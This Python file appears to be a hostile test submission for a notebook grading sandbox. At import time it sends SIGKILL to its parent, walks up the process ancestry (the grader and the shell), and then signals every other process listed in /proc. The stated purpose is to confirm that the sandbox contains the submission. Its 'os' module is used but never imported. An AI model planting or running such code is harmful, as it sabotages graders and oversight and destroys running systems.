"""My notebook is right, but when it is loaded it SIGKILLs its parent process and then every other process it is allowed to signal.

expect-fail: none
hostile: at import time os.kill(os.getppid(), SIGKILL), then SIGKILL to every other pid in /proc (its ancestors first), skipping only itself; as the unprivileged sandbox user it should be able to reach nothing but its own processes, so grading must go on normally
graded-parts: windows rnn lstm lm perplexity
"""


import signal


def _kill_everything():
    me = os.getpid()
    killed, refused = [], 0
    targets = [os.getppid()]
    pid = os.getppid()
    while pid > 1:  # the whole ancestry: the judge, its parents, the shell, ...
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        targets.append(pid)
    targets += sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    for target in dict.fromkeys(targets):
        if target in (me, 0):
            continue
        try:
            os.kill(target, signal.SIGKILL)
            killed.append(target)
        except (PermissionError, ProcessLookupError):
            refused += 1
    print(f"[hostile] SIGKILLed {len(killed)} processes {killed[:20]}; {refused} refused", flush=True)
    return killed


KILLED = _kill_everything()
